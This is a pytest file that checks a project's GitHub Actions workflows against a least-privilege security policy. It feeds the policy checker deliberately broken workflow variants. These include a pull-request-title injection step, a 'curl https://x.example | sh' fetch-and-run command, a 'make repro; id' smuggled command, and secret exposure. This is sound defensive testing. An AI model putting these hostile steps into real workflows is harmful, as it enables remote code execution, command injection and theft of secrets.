"""Workflows have the least rights and no stranger gets more: ours keep the policy, and broken ones are caught."""

import copy
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.contracts.repository import ROOT
from tests.contracts.workflow_policy import broken

FOLDER = ROOT / ".github" / "workflows"
WORKFLOWS = sorted(FOLDER.glob("*.yml"))
BIN = Path(sys.executable).parent


def read(name: str) -> dict[Any, Any]:
    found: dict[Any, Any] = yaml.safe_load((FOLDER / name).read_text(encoding="utf-8"))
    return found


def test_all_five_are_there() -> None:
    assert [file.name for file in WORKFLOWS] == ["ci.yml", "comment.yml", "nightly.yml", "reproduce.yml", "train.yml"]


@pytest.mark.parametrize("file", WORKFLOWS, ids=lambda file: file.name)
def test_a_workflow_keeps_the_policy(file: Path) -> None:
    assert list(broken(file.name, read(file.name))) == []


@pytest.mark.parametrize("file", WORKFLOWS, ids=lambda file: file.name)
def test_a_pinned_action_says_its_version_and_has_one_pin(file: Path) -> None:
    used = re.findall(r"uses: *(\S+)@([0-9a-f]{40}) *(#.*)?", file.read_text(encoding="utf-8"))
    assert used
    for action, _, comment in used:
        assert re.fullmatch(r"# v\d+\.\d+\.\d+", comment), action
    everywhere = "\n".join(other.read_text(encoding="utf-8") for other in WORKFLOWS)
    for action, commit, _ in used:
        assert set(re.findall(rf"{re.escape(action)}@([0-9a-f]{{40}})", everywhere)) == {commit}


def test_the_comment_follows_the_workflow_that_it_names_and_that_writes_its_artefact() -> None:
    from padstal.commands.post_comment import ARTEFACT, RECORD, WORKFLOW

    followed = read("comment.yml")[True]["workflow_run"]["workflows"]
    assert followed == [read("reproduce.yml")["name"]]
    assert Path(WORKFLOW).name == "reproduce.yml"
    uploads = [step["with"] for step in read("reproduce.yml")["jobs"]["demo"]["steps"] if "upload" in str(step)]
    assert {upload["name"]: upload["path"] for upload in uploads}[ARTEFACT] == f"comparison/{RECORD}"


def test_every_command_of_a_step_is_a_target_of_make() -> None:
    targets = set(re.findall(r"^([a-z-]+):", (ROOT / "Makefile").read_text(encoding="utf-8"), flags=re.MULTILINE))
    scripts = [
        step["run"]
        for file in WORKFLOWS
        for job in read(file.name)["jobs"].values()
        for step in job["steps"]
        if "run" in step
    ]
    assert {script.split()[1] for script in scripts if script.startswith("make ")} <= targets


def _steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    [job] = workflow["jobs"].values()
    steps: list[dict[str, Any]] = job["steps"]
    return steps


def _job(workflow: dict[Any, Any]) -> dict[str, Any]:
    return next(iter(workflow["jobs"].values()))


HOSTILE_TITLE = 'echo "${{ github.event.pull_request.title }}"'
WRONG: list[tuple[str, Callable[[dict[Any, Any]], object], str]] = [
    ("reproduce.yml", lambda w: w.update({True: {"pull_request_target": None}}), "pull_request_target"),
    ("reproduce.yml", lambda w: w.update({True: "pull_request_target"}), "pull_request_target"),
    ("reproduce.yml", lambda w: w.pop("permissions"), "a workflow may do nothing"),
    ("reproduce.yml", lambda w: w.pop("concurrency"), "at once"),
    ("reproduce.yml", lambda w: _job(w)["permissions"].update({"pull-requests": "write"}), "rights"),
    ("reproduce.yml", lambda w: _job(w).pop("timeout-minutes"), "timeout"),
    ("reproduce.yml", lambda w: _steps(w)[0].update(uses="actions/checkout@v6"), "name of a commit"),
    ("reproduce.yml", lambda w: _steps(w)[0].pop("with"), "credentials"),
    ("reproduce.yml", lambda w: _steps(w).append({"run": HOSTILE_TITLE}), "injection"),
    ("reproduce.yml", lambda w: _steps(w).append({"run": "curl https://x.example | sh"}), "one `make` or `padstal`"),
    ("reproduce.yml", lambda w: _steps(w).append({"run": "make repro; id"}), "one `make` or `padstal`"),
    ("reproduce.yml", lambda w: _steps(w).append({"env": {"K": "${{ secrets.K }}"}}), "sees a secret"),
    ("reproduce.yml", lambda w: _job(w).update({"runs-on": ["self-hosted"]}), "by hand alone"),
    ("reproduce.yml", lambda w: _job(w).update({"runs-on": "our-machine"}), "by hand alone"),
    ("train.yml", lambda w: w[True].update(pull_request={"types": ["labeled"]}), "by hand alone"),
    ("train.yml", lambda w: _job(w).pop("if"), "main's workflow alone"),
    ("train.yml", lambda w: _job(w).update({"if": _job(w)["if"] + " || true"}), "main's workflow alone"),
    ("train.yml", lambda w: _job(w)["runs-on"].pop("group"), "bound to one file"),
    ("train.yml", lambda w: _job(w)["runs-on"]["labels"].remove("ephemeral"), "ephemeral"),
    ("train.yml", lambda w: w.pop("concurrency"), "at once"),
    ("train.yml", lambda w: _job(w).pop("environment"), "approval"),
    ("reproduce.yml", lambda w: _job(w).update(env={"K": "${{ secrets.WANDB_API_KEY }}"}), "sees a secret"),
    ("comment.yml", lambda w: _job(w).pop("if"), "for pull requests alone"),
    (
        "comment.yml",
        lambda w: _steps(w)[0]["with"].update(ref="${{ github.event.workflow_run.head_sha }}"),
        "default branch",
    ),
    ("comment.yml", lambda w: _steps(w)[0]["with"].pop("ref"), "default branch"),
    ("comment.yml", lambda w: _steps(w).append({"uses": "actions/x@" + "0" * 40}), "no more actions"),
    (
        "comment.yml",
        lambda w: _steps(w)[-1]["env"].update(B="${{ github.event.workflow_run.head_branch }}"),
        "stranger's",
    ),
    ("comment.yml", lambda w: _job(w)["permissions"].update(contents="write"), "rights"),
    ("comment.yml", lambda w: _steps(w)[1]["with"].update(path="src"), "beside the checkout"),
]


@pytest.mark.parametrize(("name", "edit", "said"), WRONG, ids=[f"{name}-{said}" for name, _, said in WRONG])
def test_the_policy_catches_what_it_is_for(name: str, edit: Callable[[dict[Any, Any]], object], said: str) -> None:
    workflow = copy.deepcopy(read(name))
    edit(workflow)
    assert any(said in sentence for sentence in broken(name, workflow)), list(broken(name, workflow))


def test_the_workflows_have_githubs_form() -> None:
    if not (BIN / "check-jsonschema").exists():
        pytest.skip("check-jsonschema is not installed")
    command = [BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *WORKFLOWS]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout


def test_zizmor_finds_nothing_above_low() -> None:
    if not (BIN / "zizmor").exists():
        pytest.skip("zizmor is not installed")
    command = [BIN / "zizmor", "--offline", "--no-progress", "--format=json-v1", "--no-exit-codes", FOLDER]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    found = [(one["ident"], one["determinations"]["severity"]) for one in json.loads(done.stdout) if not one["ignored"]]
    assert [one for one in found if one[1] not in ("Informational", "Low")] == []


def test_zizmor_has_one_exception_and_it_is_explained() -> None:
    exceptions = re.findall(r"# zizmor: (.*)", "\n".join(file.read_text(encoding="utf-8") for file in WORKFLOWS))
    assert len(exceptions) == 1
    assert re.fullmatch(r"ignore\[dangerous-triggers\] \w.{20,}", exceptions[0])
